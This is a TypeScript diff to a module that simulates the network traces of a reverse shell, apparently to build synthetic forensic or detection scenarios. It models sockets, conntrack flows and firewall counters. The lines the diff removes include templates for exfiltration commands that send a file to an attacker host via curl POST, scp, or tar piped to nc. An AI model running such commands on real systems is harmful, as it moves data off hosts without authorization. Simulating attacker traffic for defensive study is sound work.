@@ -17,11 +17,12 @@ import { respawnKey, type WorldCtx } from './context';
 import { cutAt, RETRANS_GIVE_UP, retransCount } from './tcp-cut';
 import { closedFlow, closedSocket, type Close } from './tcp-close';
 import { interactiveInfo, pathFd, pipeFd, proc, sockFd, tcp } from './make';
-import { countConversation, HEADER, type Tally } from './conversation';
+import { HEADER } from './conversation';
+import { RTT, shellInfo, shellPackets, shellSegments, typedInto, type Seg } from './shell-wire';
 import type { BehaviourModule, Collector } from './module';
 import { fill, flavour } from './shell-flavours';
 import { parseDuration, parseHostPort } from './time';
-import type { ChainProcess, Exfil, FdSpec, ReverseShell } from './types';
+import type { ChainProcess, FdSpec, ReverseShell } from './types';
 
 
 export function compileReverseShell(
@@ -210,16 +211,8 @@ function contributeEpoch(b: ReverseShell, ctx: WorldCtx, e: ShellEpoch, first: b
   });
   if (t >= e.heldEnd && !closing(e)) return;
   const local = { addr: ctx.hostAddr, port: e.localPort };
-  const typed = first ? typedInto(b, ctx).filter((c) => c.at >= e.start && c.at <= t) : [];
-  const bytesIn = typed.reduce((n, c) => n + c.text.length + 1, 31);
-  const lastCmd = typed.at(-1)?.at;
-  const info = interactiveInfo(30, bytesIn, t - e.start - 4, 0.4, false);
-  if (lastCmd !== undefined) {
-    // No pty: bash -i does not echo what the attacker types, it only receives it.
-    info.lastrcv = t - lastCmd;
-    info.segsIn += typed.length;
-    info.dataSegsIn = (info.dataSegsIn ?? 0) + typed.length;
-  }
+  const info = shellInfo(segmentsOf(b, ctx, e, first), t, e.start + chainStart(b.shellIndex),
+    interactiveInfo(0, 0, 0, RTT, false));
   const idle = Math.min(info.lastsnd, info.lastrcv, info.lastack);
   const socket = tcp({
     id: first ? b.id : `${b.id}~${e.localPort}`, inode: e.inode, sk: e.sk, state: 'ESTABLISHED', local,
@@ -236,7 +229,7 @@ function contributeEpoch(b: ReverseShell, ctx: WorldCtx, e: ShellEpoch, first: b
   }
   out.sockets.push(socket);
   out.flows.push({
-    proto: 'tcp', state: 'ESTABLISHED', timeout: Math.max(0, 432_000 - Math.floor(idle / 1000)),
+    proto: 'tcp', state: 'ESTABLISHED', timeout: Math.max(0, Math.floor(432_000 - idle / 1000)),
     orig: { src: local.addr, dst: b.to.addr, sport: local.port, dport: b.to.port },
     reply: { src: b.to.addr, dst: local.addr, sport: b.to.port, dport: local.port },
     assured: true, mark: 0,
@@ -262,52 +255,38 @@ function emitClosed(ctx: WorldCtx, e: ShellEpoch, live: Socket, t: number, out: 
   if (f) out.flows.push(f);
 }
 
-/** Command lines the attacker typed into the shell: the entries started from it, in order. */
-export function typedInto(b: ReverseShell, ctx: WorldCtx): { at: number; text: string }[] {
-  const key = `${b.id}:typed`;
-  const known = ctx.memo.get(key) as { at: number; text: string }[] | undefined;
+/** The connection's segments (memoised per context and connection). */
+function segmentsOf(b: ReverseShell, ctx: WorldCtx, e: ShellEpoch, first: boolean): Seg[] {
+  const key = `${b.id}:segs:${e.localPort}`;
+  const known = ctx.memo.get(key) as Seg[] | undefined;
   if (known) return known;
-  const out: { at: number; text: string }[] = [];
-  for (const x of ctx.byId.values()) {
-    if (!('parent' in x) || x.parent !== b.id) continue;
-    if (x.kind === 'exfil') out.push({ at: x.at, text: exfilCommand(x) });
-    else if (x.kind === 'process') out.push({ at: x.at, text: x.argv.join(' ') });
-    else if (x.kind === 'beacon') out.push({ at: x.at, text: x.loopArgv.join(' ') });
-    else out.push({ at: x.at, text: x.id });
-  }
-  out.sort((x, y) => x.at - y.at);
-  ctx.memo.set(key, out);
-  return out;
+  const start = e.start + chainStart(b.shellIndex);
+  const typed = first ? typedInto(b, ctx).filter((c) => c.at >= start && c.at < e.sockEnd) : [];
+  const segs = shellSegments(b, ctx.base.host.hostname, {
+    start, pgrp: e.pids[0]!, typed, end: Math.min(e.sockEnd, e.cut),
+  });
+  ctx.memo.set(key, segs);
+  return segs;
 }
 
-function exfilCommand(x: Exfil): string {
-  const dst = `${x.to.addr} ${x.to.port}`;
-  if (x.tool === 'curl') return `curl -sk -X POST --data-binary @${x.source} https://${x.to.addr}:${x.to.port}/upload`;
-  if (x.tool === 'scp') return `scp -q ${x.source} ${x.user}@${x.to.addr}:/tmp/`;
-  return `tar czf - ${x.source} | nc ${dst}`;
-}
-
-/** What the shell has sent (its prompt) and received (a hello, then each command line). */
-function shellTally(at: number, typed: readonly { text: string }[]): Tally {
-  const bytesIn = typed.reduce((n, c) => n + c.text.length + 1, 31);
-  const i = interactiveInfo(30, bytesIn, 0, 0.4, false);
-  return { at, bytesOut: i.bytesSent, segsOut: i.segsOut, bytesIn, segsIn: i.segsIn + typed.length };
-}
-
-/** The connection's packets up to t, and its retransmissions once the firewall cuts it. */
+/** The connection's packets up to t on the counters, and its retransmissions once the firewall cuts it. */
 function countEpoch(b: ReverseShell, ctx: WorldCtx, e: ShellEpoch, first: boolean, t: number, out: Collector) {
   if (t < e.start) return;
   const local = { addr: ctx.hostAddr, port: e.localPort };
-  const typed = first ? typedInto(b, ctx).filter((c) => c.at >= e.start && c.at < e.sockEnd) : [];
-  const tallies = [shellTally(e.start, []), ...typed.map((c, i) => shellTally(c.at, typed.slice(0, i + 1)))];
-  countConversation(ctx, out, { local, remote: b.to, server: false }, tallies, Math.min(t, e.sockEnd));
+  const o = { proto: 'tcp' as const, src: local.addr, dst: b.to.addr, sport: local.port, dport: b.to.port,
+    outIface: ctx.iface, ctstate: 'ESTABLISHED' };
+  const i = { proto: 'tcp' as const, src: b.to.addr, dst: local.addr, sport: b.to.port, dport: local.port,
+    inIface: ctx.iface, ctstate: 'ESTABLISHED' };
+  for (const s of segmentsOf(b, ctx, e, first)) {
+    if (s.at > t) break;
+    const syn = s.flags.startsWith('S');
+    const meta = s.out ? { ...o, ...(s.flags === 'S' ? { ctstate: 'NEW' } : {}) } : i;
+    out.count(ctx.epochAt(s.at), s.out ? 'OUTPUT' : 'INPUT', meta, 1, s.len + (syn ? SYN_HEADER : HEADER));
+  }
   const until = Math.min(t, e.sockEnd);
   if (until <= e.cut) return;
   const n = retransCount(until - e.cut);
-  if (n > 0) {
-    out.count(ctx.epochAt(until), 'OUTPUT', { proto: 'tcp', src: local.addr, dst: b.to.addr,
-      sport: local.port, dport: b.to.port, outIface: ctx.iface, ctstate: 'ESTABLISHED' }, n, n * (41 + HEADER));
-  }
+  if (n > 0) out.count(ctx.epochAt(until), 'OUTPUT', o, n, n * (41 + HEADER));
 }
 
 function contribute(b: ReverseShell, ctx: WorldCtx, t: number, out: Collector): void {
@@ -317,9 +296,17 @@ function contribute(b: ReverseShell, ctx: WorldCtx, t: number, out: Collector): 
   });
 }
 
+/** A SYN's and a SYN-ACK's IP and TCP headers with their options. */
+const SYN_HEADER = 60;
+
 export const reverseShellModule: BehaviourModule<ReverseShell> = {
   kind: 'reverse-shell',
   end: (b, ctx) => shellEpochs(b, ctx).at(-1)!.sockEnd,
   contribute,
   logs: () => {},
+  packets(b, ctx, from, to, out) {
+    shellEpochs(b, ctx).forEach((e, i) => {
+      if (e.start < to) shellPackets(b, ctx, e.localPort, segmentsOf(b, ctx, e, i === 0), from, to, out);
+    });
+  },
 };
